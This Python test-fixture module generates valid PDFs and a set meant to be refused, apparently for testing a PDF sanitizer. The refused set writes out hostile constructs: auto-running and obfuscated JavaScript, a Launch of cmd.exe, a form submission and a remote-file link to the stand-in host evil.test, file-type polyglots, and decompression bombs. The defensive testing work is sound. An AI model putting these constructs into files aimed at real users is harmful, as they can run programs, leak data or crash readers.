"""PDFs, made by code: proper ones, and ones that would do something where they are opened."""

from __future__ import annotations

import zlib

from tests.files.corpus import CANARY, SCRIPT, drawn, saved, zeros

HEAD = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


def pdf(*objects: bytes, head: bytes = HEAD, behind: bytes = b"") -> bytes:
    """A PDF of one page, and these objects besides."""
    page = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<>>>>",
        stream(b"0 0 m 595 842 l S"),
    )
    out, places = bytearray(head), []
    for number, body in enumerate((*page, *objects), 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\n" % (len(places) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out) + behind


def stream(data: bytes, more: bytes = b"") -> bytes:
    """A stream, packed."""
    return packed(zlib.compress(data), b"/Filter/FlateDecode" + more)


def packed(data: bytes, told: bytes = b"") -> bytes:
    """A stream as it is given."""
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(data), told, data)


def object_stream(inside: bytes, more: bytes = b"/Type/ObjStm") -> bytes:
    """Objects that are packed together."""
    return stream(b"9 0 " + inside, b"/N 1/First 4" + more)


def with_outline() -> bytes:
    """A PDF such as offices make: an outline, links, packed objects, a picture with a predictor."""
    return pdf(
        b"<</Type/Outlines/First 6 0 R/Last 6 0 R/Count 1>>",
        b"<</Title(Hall 3)/Parent 5 0 R/Dest[3 0 R/Fit]>>",
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://lab.test/)>>>>",
        object_stream(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"),
        stream(bytes(300), b"/Subtype/Image/DecodeParms<</Predictor 15/Columns 9>>"),
    )


SCRIPTED = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"

#: what is a PDF and only to be read
PROPER = {
    "pdf of one page": lambda: pdf(),
    "pdf of a picture": lambda: saved(drawn(), "PDF"),
    "pdf with an outline": with_outline,
    "pdf, changed once": lambda: pdf() + pdf()[len(HEAD) :],
}

#: a PDF with more in it than its pages
REFUSED = {
    "pdf with a script": lambda: pdf(SCRIPTED),
    "pdf with a script that opens with it": lambda: pdf(b"<</OpenAction " + SCRIPTED + b">>"),
    "pdf with a script in codes": lambda: pdf(b"<</S/J#61va#53cript/JS(app.alert\\(1\\))>>"),
    "pdf with a packed script": lambda: pdf(object_stream(SCRIPTED)),
    "pdf with a packed script without a type": lambda: pdf(object_stream(SCRIPTED, b"")),
    "pdf with a script packed twice": lambda: pdf(
        packed(
            zlib.compress(zlib.compress(SCRIPTED)),
            b"/N 1/First 4/Filter[/FlateDecode/ASCIIHexDecode]",
        )
    ),
    "pdf with a script in hexadecimal": lambda: pdf(
        packed(SCRIPTED.hex().encode() + b">", b"/Type/ObjStm/N 1/First 4/Filter/AHx")
    ),
    "pdf that starts a program": lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"),
    "pdf that sends a form": lambda: pdf(b"<</S/SubmitForm/F(http://evil.test/)>>"),
    "pdf with a form of xml": lambda: pdf(b"<</AcroForm<</XFA 9 0 R>>>>"),
    "pdf with a file inside": lambda: pdf(
        b"<</Names<</EmbeddedFiles 9 0 R>>>>", stream(SCRIPT, b"/Type/EmbeddedFile")
    ),
    "pdf that opens another": lambda: pdf(b"<</S/GoToR/F(\\\\\\\\evil.test\\\\x.pdf)>>"),
    "pdf with a film": lambda: pdf(b"<</Type/Annot/Subtype/RichMedia>>"),
    "pdf with a password": lambda: pdf(b"<</Filter/Standard/V 4>>", b"<</Encrypt 5 0 R>>"),
    "pdf cut in half": lambda: pdf(stream(bytes(range(256)) * 99))[:900],
    "pdf without an end": lambda: pdf().replace(b"%%EOF", b""),
    "pdf with a page of html before it": lambda: SCRIPT + pdf(),
    "pdf with a page of html behind it": lambda: pdf(behind=SCRIPT),
    "pdf that is a page of html": lambda: pdf(head=b"%PDF-1.4 " + SCRIPT + b"\n"),
    "pdf that is a zip": lambda: pdf(behind=b"PK\x05\x06" + bytes(18)),
    "pdf that is a java archive": lambda: pdf(
        packed(b"PK\x03\x04" + CANARY + b"PK\x05\x06" + bytes(16) + b"\xff\xff")
    ),
    "pdf head only": lambda: b"%PDF-1.7\n",
    "pdf of another program": lambda: b"%PDF-9.9\n" + pdf()[9:],
    "pdf bomb": lambda: pdf(packed(zeros(2**28), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")),
    "pdf of many bombs": lambda: pdf(
        *[packed(zeros(2**22), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")] * 500
    ),
    "pdf of streams": lambda: pdf(b"stream\n" * 1_700_000),
    "pdf of codes": lambda: pdf(b"/#4a#61#76#61" * 900_000),
    "pdf of slashes that end in a script": lambda: pdf(b"/" * 12_000_000, SCRIPTED),
    "pdf of names that nearly act": lambda: pdf(b"/JavaScrip" * 1_200_000, b"<</S/Launch>>"),
    "pdf that is too large": lambda: pdf(bytes(13 * 2**20)),
}
